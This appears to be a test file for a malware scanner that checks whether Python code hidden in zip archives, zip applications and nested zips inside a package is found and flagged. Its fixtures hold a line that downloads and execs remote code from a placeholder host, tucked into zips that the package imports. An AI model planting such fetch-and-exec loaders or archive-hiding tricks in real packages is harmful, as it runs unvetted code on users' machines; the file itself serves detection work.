import { expect, test } from 'vitest';
import { analyse } from '../../src/analysis/analyse.ts';
import { innerFindings } from '../../src/analysis/inner-archives.ts';
import type { Finding } from '../../src/analysis/report/finding.ts';
import { makeZip } from '../support/make-zip.ts';
import { evidenceOf, type Files } from './detectors/carriers.ts';

const FETCH = 'import urllib.request\nexec(urllib.request.urlopen("https://cdn.example/s.py").read())\n';
const innerOf = async (files: Files): Promise<Finding[]> => innerFindings(await evidenceOf(files), analyse);

test('a zip on the path is read when its module is imported, under paths that lead into it', async () => {
  const code =
    'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "parts.zip"))\nimport partsmod\n';
  const found = await innerOf({
    'kit/__init__.py': code,
    'kit/parts.zip': makeZip([{ name: 'partsmod/__init__.py', content: FETCH }]),
  });
  expect(found).toContainEqual(
    expect.objectContaining({
      path: 'kit/parts.zip!/partsmod/__init__.py',
      class: 'malware',
      context: 'import',
      line: 2,
    }),
  );
});

test('a zip application that an import starts counts as imported; one that nobody starts is left alone', async () => {
  const app = Buffer.concat([
    Buffer.from('#!/usr/bin/env python3\n'),
    makeZip([{ name: '__main__.py', content: FETCH }]),
  ]);
  const start =
    'import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "run.pyz")])\n';
  const found = await innerOf({ 'kit/__init__.py': start, 'kit/run.pyz': app });
  expect(found).toContainEqual(expect.objectContaining({ path: 'kit/run.pyz!/__main__.py', context: 'import' }));
  expect(await innerOf({ 'kit/__init__.py': '', 'kit/run.pyz': app })).toEqual([]);
});

test('an honest zip of modules says nothing', async () => {
  const code = 'import sys\nsys.path.insert(0, "zones.zip")\nimport zonetables\n';
  const zones = makeZip([{ name: 'zonetables.py', content: 'ZONES = ["UTC"]\n' }]);
  expect(await innerOf({ 'kit/__init__.py': code, 'kit/zones.zip': zones })).toEqual([]);
});

test('an archive in a started archive is read as well, and more than are read are not passed over', async () => {
  const inner = makeZip([{ name: 'partsmod/__init__.py', content: FETCH }]);
  const main = 'import sys\nsys.path.insert(0, "parts.zip")\nimport partsmod\n';
  const app = makeZip([
    { name: '__main__.py', content: main },
    { name: 'parts.zip', content: inner },
  ]);
  const start =
    'import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "run.pyz")])\n';
  const deep = await innerOf({ 'kit/__init__.py': start, 'kit/run.pyz': app });
  expect(deep.some((f) => f.path === 'kit/run.pyz!/parts.zip!/partsmod/__init__.py' && f.class === 'malware')).toBe(
    true,
  );

  const names = Array.from({ length: 12 }, (_, i) => `p${i}.zip`);
  const zips = Object.fromEntries(names.map((n) => [`kit/${n}`, makeZip([{ name: 'a.py', content: 'A = 1\n' }])]));
  const many = await innerOf({ 'kit/__init__.py': `PATHS = ${JSON.stringify(names)}\n`, ...zips });
  expect(many).toMatchObject([{ detector: 'unread-code', score: 5, class: 'suspicious' }]);
});
